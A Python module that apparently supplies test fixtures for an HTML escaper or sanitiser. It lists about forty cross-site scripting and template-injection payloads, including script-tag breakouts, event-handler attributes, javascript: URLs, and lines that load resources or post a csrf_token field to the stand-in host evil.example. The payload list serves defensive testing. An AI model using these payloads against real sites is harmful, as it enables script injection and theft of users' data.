"""Texts that would run a script or change a page that does not escape them.

Each script would call `alert`, and each element has the attribute `data-hostile`.
"""

from __future__ import annotations

TEXTS = (
    "<script data-hostile>alert(1)</script>",
    "<ScRiPt data-hostile>alert(1)</sCrIpT>",
    "<script data-hostile>alert(1)",
    "<<script data-hostile>alert(1)//<</script>",
    "<scr<script>ipt data-hostile>alert(1)</scr</script>ipt>",
    "</title><script data-hostile>alert(1)</script>",
    "</textarea><script data-hostile>alert(1)</script>",
    "</script><script data-hostile>alert(1)</script>",
    "</style><script data-hostile>alert(1)</script>",
    "</pre></code></td></table><script data-hostile>alert(1)</script>",
    "--><script data-hostile>alert(1)</script><!--",
    "]]><script data-hostile>alert(1)</script>",
    "<img data-hostile src=x onerror=alert(1)>",
    "<img data-hostile src='x' onerror='alert(1)'",
    "<img/data-hostile/src=x/onerror=alert(1)>",
    "<svg data-hostile onload=alert(1)>",
    "<svg data-hostile><script>alert(1)</script></svg>",
    "<svg data-hostile><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math data-hostile><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body data-hostile onload=alert(1)>",
    "<iframe data-hostile src='javascript:alert(1)'></iframe>",
    "<iframe data-hostile srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data-hostile data='javascript:alert(1)'></object>",
    "<embed data-hostile src='data:text/html,<script>alert(1)</script>'>",
    "<link data-hostile rel=stylesheet href='//evil.example/x.css'>",
    "<style data-hostile>@import '//evil.example/x.css';</style>",
    "<base data-hostile href='//evil.example/'>",
    "<meta data-hostile http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form data-hostile action='//evil.example/'><input name=csrf_token></form>",
    "<a data-hostile href='javascript:alert(1)'>link</a>",
    "<details data-hostile open ontoggle=alert(1)>",
    "<input data-hostile autofocus onfocus=alert(1)>",
    "<div data-hostile hx-get='/signout' hx-trigger='load' hx-on:click='alert(1)'>x</div>",
    '" data-hostile onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "' data-hostile onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "` data-hostile onmouseover=alert(1) x=`",
    "javascript:alert(1)//https://evil.example/",
    'https://evil.example/"onmouseover=alert(1)//<b data-hostile>',
    "{{ 7 * 191 }}{% for x in [1] %}{{ self }}{% endfor %}<%= 7 * 191 %>${7*191}#{7*191}",
    "\u202eevil\u2066\u200b&lt;script data-hostile&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
)
